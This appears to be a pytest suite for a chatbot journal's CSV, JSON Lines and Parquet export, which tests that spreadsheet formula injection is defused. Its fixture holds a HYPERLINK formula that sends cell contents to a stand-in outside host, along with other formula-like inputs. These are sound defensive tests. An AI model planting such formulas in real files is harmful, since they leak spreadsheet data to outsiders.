from __future__ import annotations

import csv
import io
import json
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from bot.journal.export import export_turns
from bot.journal.export.files import turn_lines
from bot.journal.export.formats import COLUMNS, defuse, write_csv
from bot.journal.review import Comment, Filters, Judgement, Reviews, Verdict
from corpus.errors import StorageError, UsageError

Ask = Callable[..., str]
FORMULA = '=HYPERLINK("https://x.example/?"&A1,"open")'


@pytest.fixture
def turn(ask: Ask, reviews: Reviews, lots: Callable[..., None]) -> str:
    """A judged turn full of formulas, after one that nobody judged."""
    ask('What of nickel?\nAnd, well, "zinc"?', user_id=2)
    made = ask(FORMULA + " 日本", user_id=1, text="+1 percent.")
    reviews.journal.feedback(made, user_id=1, useful=False, comment="@SUM(A1)")
    judgement = Judgement(
        verdict=Verdict.WRONG,
        version=0,
        tags=("units", "dates"),
        comments=(Comment(text="-1 is wrong", anchor="claim", position=1),),
        correction="=15",
    )
    reviews.judge(made, judgement, reviewer="ann")
    return made


def _export(reviews: Reviews, form: str, path: Path | None, **filters: object) -> int:
    chosen = Filters.model_validate(filters)
    return export_turns(
        reviews.journal.vault(), form, path, filters=chosen, actor="ann"  # type: ignore[arg-type]
    )  # fmt: skip


def test_a_table_has_verdicts_tags_and_comments_and_no_formula(
    reviews: Reviews, turn: str, tmp_path: Path
) -> None:
    file = tmp_path / "turns.csv"
    assert _export(reviews, "csv", file) == 2

    with file.open(encoding="utf-8", newline="") as opened:
        plain, judged = csv.DictReader(opened)
    assert plain["question"] == 'What of nickel?\nAnd, well, "zinc"?'
    assert (plain["verdict"], plain["comments"]) == ("", "")
    assert judged["question"] == f"'{FORMULA} 日本"
    assert judged["answer"] == "'+1 percent."
    assert (judged["verdict"], judged["tags"]) == ("wrong", "dates units")
    assert judged["comments"] == "ann (claim 1): -1 is wrong"
    assert (judged["correction"], judged["feedback"]) == ("'=15", "'@SUM(A1)")
    assert (judged["reviewer"], judged["useful"], judged["useless"]) == ("ann", "0", "1")
    assert stat.S_IMODE(file.stat().st_mode) == stat.S_IRUSR | stat.S_IWUSR


def test_json_lines_hold_everything_as_it_is(reviews: Reviews, turn: str, tmp_path: Path) -> None:
    file = tmp_path / "turns.jsonl"
    _export(reviews, "jsonl", file)

    told = json.loads(file.read_text(encoding="utf-8").splitlines()[1])
    assert told["id"] == turn
    assert told["question"] == FORMULA + " 日本"
    assert told["reviews"][0]["comments"][0]["text"] == "-1 is wrong"
    assert told["corrections"][0]["text"] == "=15"
    assert told["feedback"][0]["comment"] == "@SUM(A1)"
    assert told["user"].startswith("u")


def test_parquet_has_the_same_columns_with_numbers_as_numbers(
    reviews: Reviews, turn: str, tmp_path: Path
) -> None:
    file = tmp_path / "turns.parquet"
    _export(reviews, "parquet", file)

    table = parquet.read_table(file)
    assert table.column_names == [name for name, _ in COLUMNS]
    _, judged = table.to_pylist()
    assert (judged["id"], judged["question"]) == (turn, FORMULA + " 日本")
    assert (judged["total_ms"], judged["risk"] > 0, judged["sampled"]) == (250.0, True, False)


def test_filters_narrow_an_export_and_it_is_noted(
    reviews: Reviews, turn: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _export(reviews, "jsonl", None, verdict="wrong", text="percent") == 1
    assert json.loads(capsys.readouterr().out)["id"] == turn
    assert _export(reviews, "csv", tmp_path / "none.csv", outcome="declined") == 0
    assert (tmp_path / "none.csv").read_text().count("\n") == 1
    assert [event.actor for event in reviews.events(kind="exported")] == ["ann", "ann"]


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_a_browser_gets_the_same_piece_by_piece(
    reviews: Reviews, turn: str, tmp_path: Path, form: str
) -> None:
    _export(reviews, form, tmp_path / "file")
    pieces = turn_lines(
        reviews.journal.vault(), form, filters=Filters(), actor="ann"  # type: ignore[arg-type]
    )  # fmt: skip

    with (tmp_path / "file").open(encoding="utf-8", newline="") as opened:
        assert "".join(pieces) == opened.read()


def test_what_cannot_be_written_is_told_and_leaves_nothing(
    reviews: Reviews, turn: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(StorageError, match="cannot be written"):
        _export(reviews, "csv", tmp_path / "nowhere" / "turns.csv")
    with pytest.raises(UsageError, match="add --output FILE"):
        _export(reviews, "parquet", None)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r'pip install "lodestone\[parquet\]"'):
        _export(reviews, "parquet", tmp_path / "turns.parquet")
    assert not [one for one in tmp_path.iterdir() if one.is_file()]


def test_many_turns_are_read_in_parts_and_none_twice(
    reviews: Reviews, ask: Ask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.journal.export.rows.AT_ONCE", 3)
    ids = [ask(user_id=number) for number in range(7)]
    file = tmp_path / "turns.jsonl"

    assert _export(reviews, "jsonl", file) == 7
    assert [json.loads(line)["id"] for line in file.read_text().splitlines()] == ids


@given(st.text())
def test_no_cell_begins_as_a_formula_does_and_nothing_of_it_is_lost(text: str) -> None:
    told = defuse(text)

    assert not told.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert told[:1] not in {"\t", "\r"}
    assert told.removeprefix("'" if told != text.replace("\x00", "\ufffd") else "") == text.replace(
        "\x00", "\ufffd"
    )


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=5))
def test_every_cell_comes_back_from_the_file(texts: list[str]) -> None:
    file = io.StringIO(newline="")
    write_csv(({"question": text} for text in texts), file)

    file.seek(0)
    assert [row["question"] for row in csv.DictReader(file)] == [defuse(text) for text in texts]
